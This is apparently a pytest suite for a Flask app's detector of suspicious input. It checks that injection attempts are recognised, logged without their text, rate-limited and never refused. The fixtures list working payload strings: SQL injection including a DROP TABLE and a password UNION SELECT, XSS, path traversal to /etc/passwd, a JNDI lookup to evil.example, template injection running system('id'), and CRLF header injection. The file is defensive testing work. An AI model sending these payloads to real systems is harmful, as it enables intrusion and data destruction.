"""Suspicious input is heard of, never refused or altered, and cannot fill the audit."""

import time

import pytest
from flask import Flask
from flask.testing import FlaskClient

from tests.stack.application import Clock
from webapp.domain.suspicion import MOST_LETTERS, examine, recognise, texts_of
from webapp.edge.suspicion import MOST_PER_CALLER
from webapp.services.audit_search import AuditCard, AuditQuery, find_entries

ATTACKS = {
    "' OR '1'='1": "sql-injection",
    "1 or 1=1": "sql-injection",
    "x') UNION/**/SELECT password FROM users--": "sql-injection",
    "%27%20union%20all%20select%20null": "sql-injection",
    "1; DROP TABLE scenarios": "sql-injection",
    "admin'--": "sql-injection",
    "1 AND pg_sleep(5)": "sql-injection",
    "<script>alert(1)</script>": "script-injection",
    "%253Cscript%253E": "script-injection",
    "<img src=x onerror=alert(1)>": "script-injection",
    "<svg/onload=alert(1)>": "script-injection",
    "JaVaScRiPt:alert(1)": "script-injection",
    "java\tscript:alert(1)'": "script-injection",
    "../../etc/passwd": "path-traversal",
    "..%2f..%2fsecret": "path-traversal",
    "%2e%2e/%2e%2e/": "path-traversal",
    "..\\..\\windows": "path-traversal",
    "${jndi:ldap://evil.example/a}": "template-injection",
    "${${lower:j}ndi:x}": "template-injection",
    "{{7*7}}": "template-injection",
    "{{ ''.__class__ }}": "template-injection",
    "<%= system('id') %>": "template-injection",
    "name\x00.pdf": "nul-byte",
    "name%00.pdf": "nul-byte",
    "x\r\nSet-Cookie: a=b": "header-injection",
    "x%0d%0aLocation:%20//evil.example": "header-injection",
}
INNOCENT = [
    "", "Checkout", "Ada's shop & Bob's; both -- or neither", "1,000 events/s (peak) at 100 % load",
    "Line one\r\nNote: line two", "select the best region or a cheaper one", "eu-west-1", "${BucketName}",
    "Hello {{name}}, your order", "Wait... / then go", "a < b and b > c", "https://example.com/a?b=c#d",
    "O'Reilly and Sons", "C# and F#", "50 % off", "json: {\"a\": 1}",
    "İstanbul – ça va ; 日本語",
]  # fmt: skip


@pytest.mark.parametrize("text", ATTACKS)
def test_an_attack_is_recognised(text: str) -> None:
    assert ATTACKS[text] in recognise(text)


@pytest.mark.parametrize("text", INNOCENT)
def test_what_people_write_is_not(text: str) -> None:
    assert recognise(text) == ()


@pytest.mark.parametrize(
    "text",
    ["'" * 100_000, "<" * 100_000, "{{" * 50_000, "' or " * 20_000, "%25" * 30_000, "<a " * 30_000,
     "../" * 30_000, "${" * 50_000, "<" + "a" * 100_000 + " onx", "\r\n" * 50_000, "' or 'a" * 15_000,
     "union " * 16_000],
)  # fmt: skip
def test_no_text_takes_long(text: str) -> None:
    begun = time.perf_counter()
    examine([("query q", text)] * 3)
    assert time.perf_counter() - begun < 0.2


def test_only_so_much_is_looked_at() -> None:
    far_away = "a" * MOST_LETTERS + "<script>"
    assert examine([("query q", far_away)]) is None
    assert examine([("query q", "<script>" + far_away)]) is not None


def test_a_usual_request_is_looked_at_within_100_microseconds() -> None:
    body = {
        "name": "Checkout", "description": "What the shop's checkout does, at 3 calls per order.",
        "tags": ["shop", "eu"], "region": "eu-west-1", "traffic": {"unit": "orders", "volume": "1000000"},
        "resources": [{"service": "sqs", "name": "Queue", "usage": {"requests": {"per": "events"}}}],
    }  # fmt: skip
    fields = [("path", "/api/v2/scenarios"), *((f"body {at}", text) for at, text in texts_of(body))]
    spent = []
    for _ in range(300):
        begun = time.perf_counter()
        examine(fields)
        spent.append(time.perf_counter() - begun)
    assert min(spent) < 100e-6


def test_a_secret_is_not_told_of() -> None:
    assert examine([("form password", "' or '1'='1"), ("form csrf_token", "../../")]) is None


def suspicions(app: Flask) -> tuple[AuditCard, ...]:
    with app.app_context():
        return find_entries(AuditQuery(activity="SuspiciousInput")).entries


def test_a_query_is_answered_as_ever_and_told_of_without_its_text(
    app: Flask, client: FlaskClient, caplog: pytest.LogCaptureFixture
) -> None:
    with caplog.at_level("WARNING", logger="webapp.security"):
        answer = client.get("/prices", query_string={"q": "<script>alert('mine')</script>"})
    assert answer.status_code == 200
    assert "&lt;script&gt;alert" in answer.get_data(as_text=True), "nothing is altered, everything escaped"
    (entry,) = suspicions(app)
    assert entry.details == {"patterns": ["script-injection"], "where": "GET /prices, query q"}
    assert (entry.address, entry.correlation_id) == ("127.0.0.1", answer.headers["X-Correlation-ID"])
    assert "script-injection in GET /prices, query q from 127.0.0.1" in caplog.text
    assert "alert('mine')" not in caplog.text


def test_a_json_body_is_looked_at_with_its_pointer(app: Flask, client: FlaskClient) -> None:
    document = {"region": "us-east-1", "name": "x", "resources": [{"service": "' or 1=1 --"}]}
    assert client.post("/api/v2/estimates", json=document).status_code == 422
    (entry,) = suspicions(app)
    assert entry.details["where"] == "POST /api/v2/estimates, body /resources/0/service"


@pytest.mark.parametrize(
    "body", [b'{"name": "\' or 1=1 --", "description": "%s"}' % (b"a" * 10_241), b'{"name": "\' or 1=1 --"']
)
def test_a_body_that_is_refused_unread_is_looked_at_as_text(
    app: Flask, client: FlaskClient, body: bytes
) -> None:
    answer = client.post("/api/v2/estimates", data=body, content_type="application/json")
    assert answer.status_code in (400, 422)
    (entry,) = suspicions(app)
    assert entry.details == {"patterns": ["sql-injection"], "where": "POST /api/v2/estimates, body"}


def test_a_form_is_looked_at(app: Flask, client: FlaskClient) -> None:
    client.post("/sign-in", data={"email": "../../etc/passwd", "password": "' or '1'='1"})
    (entry,) = suspicions(app)
    assert entry.details == {"patterns": ["path-traversal"], "where": "POST /sign-in, form email"}


def test_a_header_is_looked_at_and_a_browsers_own_is_not(app: Flask, client: FlaskClient) -> None:
    usual = (
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0 Safari/537.36"
    )
    client.get("/prices", headers={"User-Agent": usual, "Referer": "http://localhost/prices?q=a%20b"})
    assert suspicions(app) == ()
    client.get("/prices", headers={"User-Agent": "${jndi:ldap://evil.example/a}"})
    (entry,) = suspicions(app)
    assert entry.details == {
        "patterns": ["template-injection"],
        "where": "GET /prices, header User-Agent",
    }


def test_a_path_nobody_serves_is_looked_at(app: Flask, client: FlaskClient) -> None:
    assert client.get("/..%2f..%2fetc/passwd").status_code == 404
    (entry,) = suspicions(app)
    assert entry.details == {"patterns": ["path-traversal"], "where": "GET (no route), path"}


def test_an_odd_name_is_not_repeated(app: Flask, client: FlaskClient) -> None:
    client.get("/prices", query_string={"<script>": "../../x"})
    (entry,) = suspicions(app)
    assert entry.details["where"] == "GET /prices, query (name)"
    assert entry.details["patterns"] == ["script-injection", "path-traversal"]


def test_nobody_can_fill_the_audit(app: Flask, client: FlaskClient, clock: Clock) -> None:
    for _ in range(MOST_PER_CALLER + 5):
        client.get("/prices?q=<script>")
    assert len(suspicions(app)) == MOST_PER_CALLER
    clock.advance(seconds=60)
    client.get("/prices?q=<script>")
    assert len(suspicions(app)) == MOST_PER_CALLER + 1


def test_an_audit_that_cannot_be_written_does_not_cost_the_answer(
    client: FlaskClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    def broken(*_: object) -> None:
        raise OSError("disk full")

    monkeypatch.setattr("webapp.edge.suspicion.record", broken)
    assert client.get("/prices?q=<script>").status_code == 200
